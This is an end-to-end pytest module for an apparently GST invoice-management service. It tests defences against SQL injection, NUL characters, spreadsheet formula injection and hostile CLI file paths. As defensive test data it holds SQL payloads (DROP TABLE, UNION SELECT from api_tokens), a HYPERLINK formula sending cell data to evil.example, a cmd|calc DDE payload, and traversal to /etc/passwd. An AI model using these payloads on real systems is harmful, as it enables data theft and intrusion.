"""Hostile queries, paths and text: SQL injection and NUL characters in parameters, path segments, numbers and
remarks, formulas in downloads, hostile CLI paths, and a property-based test that one recipient's random
requests never reach another recipient. The last test may stop the IMS consumer when the product
misbehaves, so it stays last in the module.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import os
import time
import zipfile
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from hypothesis import HealthCheck, given, settings

from tests.support.hostile_requests import hostile_requests
from tests.support.hostile_scene import JSON, NOTHING_PUBLISHED, Scene, make_scene, post_raw, save_body
from tests.support.ims_helpers import invoice
from tests.support.live import LiveStack, dumps
from tests.support.security_helpers import (
    bearer,
    changes,
    error_of,
    events_keyed,
    fresh_client,
    ims_many,
    ims_with_decoy,
    mount_namespace_available,
    recipient_digest,
    snapshot,
)

pytestmark = pytest.mark.e2e


@pytest.fixture(scope="module")
def scene(live_stack: LiveStack) -> Scene:
    return make_scene(live_stack)


# Injection --------------------------------------------------------------------------------------------------
def _cursor(*parts: str) -> str:
    return base64.urlsafe_b64encode(json.dumps(list(parts)).encode()).decode().rstrip("=")


def test_sql_injection_in_query_parameters_and_path_segments_reads_nothing_extra_and_changes_nothing(
    scene: Scene,
) -> None:
    a, b = scene.a, scene.b
    b_numbers = list(scene.b_docs)
    scene.settle()
    before = snapshot(scene.stack)
    failures = []
    with scene.as_a() as client:
        control = client.get(f"/v1/ims/{a}/documents", params={"q": "hx/"})
        assert control.status_code == 200 and len(control.json()["b2b"]) == 6, control.text
        for q in ("' OR 1=1--", "' OR '1'='1", "%", "_", "\\", "%' OR 1=1;--", "'; DROP TABLE x"):
            answer = client.get(f"/v1/ims/{a}/documents", params={"q": q})
            if answer.status_code != 200 or answer.json() != {}:
                failures.append(f"q={q!r}: {answer.status_code} {answer.text[:200]}")
        for cursor in (
            "' OR 1=1 --",
            _cursor("b2b' OR '1'='1", "x"),
            _cursor("b2b", "x'); DELETE FROM ims_documents; --"),
            _cursor("' UNION SELECT * FROM api_tokens --", ""),
        ):
            answer = client.get(f"/v1/ims/{a}/documents", params={"cursor": cursor})
            leaked = [n for n in b_numbers if n in answer.text]
            if answer.status_code >= 500 or leaked or (answer.status_code == 200 and not _only_a(scene, answer)):
                failures.append(f"cursor={cursor!r}: {answer.status_code} {answer.text[:200]}")
        for name, value in (
            ("section", "b2b' OR '1'='1"),
            ("status", "A' OR 1=1--"),
            ("stin", f"{b}' OR '1'='1"),
            ("stin", "' OR 1=1--"),
            ("rtnprd", "102025' OR 1=1--"),
            ("as_of", "2025-11-01' OR 1=1--"),
            ("format", "csv' OR 1=1"),
        ):
            answer = client.get(f"/v1/ims/{a}/documents", params={name: value})
            if not 400 <= answer.status_code < 500:
                failures.append(f"{name}={value!r}: {answer.status_code} {answer.text[:200]}")
        injected = quote("x' OR '1'='1", safe="")
        for path, allowed in (
            (f"/v1/ims/{a}/documents/{injected}/history", (200, 404)),
            (f"/v1/ims/{a}/documents/b2b|{scene.supplier}|2025|{injected}/history", (200, 404)),
            (f"/v1/ims/{a}/requests/{injected}", (404,)),
            (f"/v1/gstr2b/{a}/{quote('102025 OR 1=1', safe='')}", (400,)),
            (f"/v1/ims/{quote(a + chr(39) + ' OR 1=1--', safe='')}/counts", (400, 403)),
        ):
            answer = client.get(path)
            if answer.status_code not in allowed or (answer.status_code == 200 and answer.json()["events"] != []):
                failures.append(f"GET {path}: {answer.status_code} {answer.text[:200]}")
    failures += changes(before, snapshot(scene.stack))
    assert not failures, "\n".join(failures)


def test_nul_characters_in_query_and_path_parameters_never_cause_a_5xx(scene: Scene) -> None:
    a = scene.a
    scene.settle()
    before = snapshot(scene.stack)
    failures = []
    with scene.as_a() as client:
        for path, params in (
            (f"/v1/ims/{a}/documents", {"q": "HX\x00"}),
            (f"/v1/ims/{a}/documents", {"cursor": _cursor("b2b", "HX\x00")}),
            (f"/v1/ims/{a}/documents", {"stin": "\x00"}),
            (f"/v1/ims/{a}/documents", {"section": "b2b\x00"}),
            (f"/v1/ims/{a}/counts", {"as_of": "2025-11-01T00:00:00\x00Z"}),
            (f"/v1/ims/{a}/documents/b2b%00x/history", {}),
            (f"/v1/ims/{a}/requests/ref%00x", {}),
            (f"/v1/gstr2b/{a}/1020%0025", {}),
        ):
            answer = client.get(path, params=params)
            if answer.status_code >= 500:
                failures.append(f"GET {path} {params}: {answer.status_code} {answer.text[:120]}")
    failures += changes(before, snapshot(scene.stack))
    assert not failures, "\n".join(failures)


def test_sql_injection_in_document_numbers_is_refused_and_in_remarks_is_stored_as_plain_text(scene: Scene) -> None:
    stack, a = scene.stack, scene.a
    numbers = ["1'; DROP TABLE x", "X' OR '1'='1", "A1;DELETE--", "A1/**/OR/**/1"]
    body = {
        "gstin": scene.supplier,
        "fp": "102025",
        "b2b": [{"ctin": a, "inv": [invoice(n, "08-10-2025", "100.00", pos="29") for n in numbers]}],
    }
    scene.settle()
    before = snapshot(stack, NOTHING_PUBLISHED)
    answer = post_raw(scene, "/v1/returns/gstr1?status=filed&filed_on=2025-11-12", scene.filer, dumps(body))
    assert answer.status_code == 200, answer.text
    result = answer.json()
    assert (result["proc_cnt"], result["err_cnt"]) == (0, len(numbers)), result
    assert {r["error_cd"] for r in result["error_report"]["b2b"]} == {"INVALID_NUMBER"}
    assert changes(before, snapshot(stack, NOTHING_PUBLISHED)) == []

    b_before, documents = recipient_digest(stack, scene.b), stack.scalar("SELECT count(*) FROM ims_documents")
    remark = "'); DELETE FROM ims_documents; --"
    doc = scene.a_docs["HX/1"]
    saved = post_raw(
        scene,
        f"/v1/ims/{a}/actions",
        scene.recipient_a,
        dumps(save_body(a, {"doc_id": doc["doc_id"], "hash": doc["hash"], "action": "R", "remarks": remark})),
    )
    assert saved.status_code == 200 and saved.json()["status_cd"] == "P", saved.text
    stack.wait_projected()
    with scene.as_a() as client:
        listing = client.get(f"/v1/ims/{a}/documents", params={"q": "HX/1"}).json()["b2b"]
    assert [(d["inum"], d["action"], d["remarks"]) for d in listing] == [("HX/1", "R", remark)]
    assert stack.scalar("SELECT count(*) FROM ims_documents") == documents
    assert recipient_digest(stack, scene.b) == b_before


FORMULAS = {
    "HX/2": '=HYPERLINK("http://evil.example/?leak="&A2,"Click")',
    "HX/3": "+SUM(1,2)",
    "HX/4": "-2+3+cmd|' /C calc'!A0",
    "HX/5": "@SUM(A1:A9)",
    "HX/6": "\t=1+2",
}


def test_csv_and_xlsx_downloads_neutralise_formulas_in_remarks_and_numbers_cannot_carry_them(
    scene: Scene,
) -> None:
    stack, a = scene.stack, scene.a
    with scene.as_a() as client:
        current = {d["inum"]: d for d in client.get(f"/v1/ims/{a}/documents").json()["b2b"]}
        records = [
            {"doc_id": current[n]["doc_id"], "hash": current[n]["hash"], "action": "P" if i % 2 else "R", "remarks": r}
            for i, (n, r) in enumerate(FORMULAS.items())
        ]
        saved = client.post(f"/v1/ims/{a}/actions", content=dumps(save_body(a, *records)), headers=JSON)
        assert saved.status_code == 200 and saved.json()["status_cd"] == "P", saved.text
        # Document numbers are the other free text in a download; a formula is not a document number.
        numbers = ["=1+2", "+1", "-1", "@A1", "=HYPERLINK(1)"]
        filed = client.post(
            "/v1/returns/gstr1?status=saved",
            content=dumps(
                {
                    "gstin": scene.supplier,
                    "fp": "102025",
                    "b2b": [{"ctin": a, "inv": [invoice(n, "09-10-2025", "10.00") for n in numbers]}],
                }
            ),
            headers={**JSON, **bearer(scene.filer)},
        )
        assert filed.status_code == 200 and filed.json()["err_cnt"] == len(numbers), filed.text
        assert {r["error_cd"] for r in filed.json()["error_report"]["b2b"]} == {"INVALID_NUMBER"}
        stack.wait_projected()
        download = client.get(f"/v1/ims/{a}/documents", params={"format": "csv"})
        workbook = client.get(f"/v1/ims/{a}/documents", params={"format": "xlsx"})
    assert download.status_code == 200 and download.headers["content-type"].startswith("text/csv"), download.text
    rows = list(csv.DictReader(io.StringIO(download.content.decode("utf-8-sig"))))
    by_number = {r["Document number"]: r for r in rows}
    for number, remark in FORMULAS.items():
        assert by_number[number]["Remarks"] == "'" + remark, by_number[number]
    dangerous = [(r["Document number"], k, v) for r in rows for k, v in r.items() if v and v[0] in "=+-@\t\r"]
    assert dangerous == [], dangerous

    assert workbook.status_code == 200, workbook.text
    with zipfile.ZipFile(io.BytesIO(workbook.content)) as book:
        sheets = [book.read(n).decode() for n in book.namelist() if n.startswith("xl/worksheets/")]
    assert sheets and not any("<f>" in s or "<f " in s for s in sheets), "the workbook holds formulas"
    cells = "".join(sheets)
    for remark in FORMULAS.values():
        escaped = remark.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")
        assert f">'{escaped}<" in cells, remark


# CLI paths --------------------------------------------------------------------------------------------------
def test_ims_file_refuses_paths_that_are_not_regular_json_files_without_hanging(scene: Scene, tmp_path: Path) -> None:
    fifo = tmp_path / "return.fifo"
    os.mkfifo(fifo)
    (tmp_path / "zero.json").symlink_to("/dev/zero")
    (tmp_path / "empty.json").write_bytes(b"")
    system_file = "../../etc/shadow" if Path("/etc/shadow").exists() else "../../etc/passwd"
    paths = {
        "directory": str(tmp_path),
        "/dev/zero": "/dev/zero",
        "symlink to /dev/zero": str(tmp_path / "zero.json"),
        "fifo": str(fifo),
        "missing": "../../no/such/dir/../../etc/nothing-here",
        "traversal to a system file": system_file,
        "empty file": str(tmp_path / "empty.json"),
    }
    scene.settle()
    before = snapshot(scene.stack)
    started = time.monotonic()
    runs = ims_many(
        scene.stack, {name: ["file", path, "--form", "gstr1", "--status", "saved"] for name, path in paths.items()}, 30
    )
    failures = []
    for name, (code, out, err) in runs.items():
        if code is None:
            failures.append(f"ims file {paths[name]} ({name}): still running after 30 s")
        elif code == 0 or "ims file:" not in err or "Traceback" in err or out:
            failures.append(
                f"ims file {paths[name]} ({name}): exit {code}, stdout {out[:100]!r}, stderr {err[-300:]!r}"
            )
        elif "root:" in err:
            failures.append(f"ims file {paths[name]} ({name}) echoes the file's contents: {err[-300:]!r}")
    assert time.monotonic() - started < 45
    failures += changes(before, snapshot(scene.stack))
    assert not failures, "\n".join(failures)


def test_ims_gstr2b_output_refuses_system_files_directories_devices_and_missing_directories(
    scene: Scene, tmp_path: Path
) -> None:
    a = scene.a
    written = tmp_path / "gstr2b.json"
    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    argv = ["gstr2b", a, "102025", "--output"]
    runs = ims_many(
        scene.stack,
        {
            "a new file": [*argv, str(written)],
            "a directory": [*argv, str(tmp_path)],
            "/dev/null": [*argv, "/dev/null"],
            "a fifo": [*argv, str(fifo)],
            "a missing directory": [*argv, str(tmp_path / "no" / "such" / "dir" / "x.json")],
        },
        30,
    )
    code, _, err = runs.pop("a new file")
    assert code == 0, err
    assert json.loads(written.read_text())["data"]["gstin"] == a
    failures = []
    for name, (code, _out, err) in runs.items():
        if code in (0, None) or "ims gstr2b:" not in err or "--output" not in err or "Traceback" in err:
            failures.append(f"--output {name}: exit {code}, stderr {err[-300:]!r}")

    # /etc/passwd, directly, through ../.., and through a symlink. The real file is never at risk: the
    # command runs in a private mount namespace where a decoy is bind-mounted over it.
    if mount_namespace_available():
        decoy = tmp_path / "passwd-decoy"
        original = b"root:x:0:0:root:/root:/bin/sh\n"
        decoy.write_bytes(original)
        (tmp_path / "innocent.json").symlink_to("/etc/passwd")
        for name, target in (
            ("/etc/passwd", "/etc/passwd"),
            ("../../etc/passwd", "../../etc/passwd"),
            ("a symlink to /etc/passwd", str(tmp_path / "innocent.json")),
        ):
            run = ims_with_decoy(scene.stack, decoy, "/etc/passwd", *argv, target, timeout=30)
            if decoy.read_bytes() != original:
                failures.append(f"--output {name}: the command overwrote /etc/passwd (exit {run.returncode})")
                decoy.write_bytes(original)
            elif run.returncode == 0 or "ims gstr2b:" not in run.stderr:
                failures.append(f"--output {name}: exit {run.returncode}, stderr {run.stderr[-300:]!r}")
    assert not failures, "\n".join(failures)


# Property ---------------------------------------------------------------------------------------------------
def test_property_random_requests_of_one_recipient_never_5xx_and_never_touch_another_recipient(
    scene: Scene,
) -> None:
    """Every 5xx among the random requests is collected (not just the first), then B is checked: no new
    event under B's key, B's rows unchanged, and the projector still running."""
    stack, b = scene.stack, scene.b
    scene.settle()
    b_before, b_events_before = recipient_digest(stack, b), len(events_keyed(stack, b))
    consumer = stack.processes["consumer:ims"]
    server_errors: list[str] = []

    @settings(
        max_examples=60,
        deadline=None,
        derandomize=True,
        database=None,
        suppress_health_check=[HealthCheck.function_scoped_fixture, HealthCheck.too_slow],
    )
    @given(request=hostile_requests(scene))
    def random_request_by_a(request: tuple[str, str, Any]) -> None:
        method, path, body = request
        with scene.as_a() as client:
            answer = client.request(method, path, content=None if body is None else dumps(body), headers=JSON)
        if answer.status_code >= 500:
            server_errors.append(f"{method} {path} {dumps(body)[:240]} -> {answer.status_code}")

    random_request_by_a()
    b_events_after = len(events_keyed(stack, b))
    time.sleep(1)  # anything A's requests published has had time to reach the projector
    assert consumer.poll() is None, "the IMS consumer exited while serving A's random requests"
    assert b_events_after == b_events_before, f"{b_events_after - b_events_before} new events for {b}"
    assert recipient_digest(stack, b) == b_before, f"rows of {b} changed"
    assert not server_errors, f"{len(server_errors)} of 60 random requests got a 5xx:\n" + "\n".join(server_errors)


# Last: a failure here may stop the IMS consumer ------------------------------------------------------------
def test_a_nul_character_in_remarks_is_refused_or_stored_and_the_projector_keeps_serving_everyone(
    scene: Scene,
) -> None:
    stack, a, b = scene.stack, scene.a, scene.b
    consumer = stack.processes["consumer:ims"]
    assert consumer.poll() is None, "the IMS consumer had already exited before this test"
    with scene.as_a() as client:
        current = {d["inum"]: d for d in client.get(f"/v1/ims/{a}/documents").json()["b2b"]}
        doc = current["HX/6"]
        remark, action = "late\x00payment", "P" if doc["action"] == "R" else "R"
        answer = client.post(
            f"/v1/ims/{a}/actions",
            content=dumps(
                save_body(a, {"doc_id": doc["doc_id"], "hash": doc["hash"], "action": action, "remarks": remark})
            ),
            headers=JSON,
        )
    assert answer.status_code < 500, answer.text
    accepted = answer.status_code == 200 and answer.json()["proc_cnt"] == "1"
    if not accepted:
        message = error_of(answer).get("error_msg", "") if answer.status_code != 200 else answer.text
        assert "remarks" in message, answer.text
        return

    # Accepted: then the projector must apply it, and keep applying everyone else's events afterwards.
    b_doc = scene.b_docs["HB/1"]
    with fresh_client(stack, scene.recipient_b) as as_b:
        fresh_b = {d["inum"]: d for d in as_b.get(f"/v1/ims/{b}/documents").json()["b2b"]}["HB/1"]
        by_b = as_b.post(
            f"/v1/ims/{b}/actions",
            content=dumps(save_body(b, {"doc_id": b_doc["doc_id"], "hash": fresh_b["hash"], "action": "A"})),
            headers=JSON,
        )
        assert by_b.status_code == 200 and by_b.json()["status_cd"] == "P", by_b.text
        deadline = time.monotonic() + 20
        b_action = "N"
        while time.monotonic() < deadline and consumer.poll() is None:
            b_action = {d["inum"]: d for d in as_b.get(f"/v1/ims/{b}/documents").json()["b2b"]}["HB/1"]["action"]
            if b_action == "A":
                break
            time.sleep(0.3)
    log = (stack.settings.home / "consumer-ims.log").read_text(errors="replace")
    assert consumer.poll() is None, (
        f"a SAVE by {a} with a NUL in remarks was accepted and the IMS consumer exited "
        f"(code {consumer.poll()}); log tail:\n{log[-800:]}"
    )
    assert b_action == "A", f"{b}'s accepted action was not applied within 20 s after {a}'s NUL remark"


def _only_a(scene: Scene, answer: Any) -> bool:
    """A GETINV answer holds recipient A's documents only (GSTN's body names no recipient: its doc_ids do)."""
    ids = {r["doc_id"] for records in answer.json().values() for r in records}
    return ids <= {d["doc_id"] for d in scene.a_docs.values()}
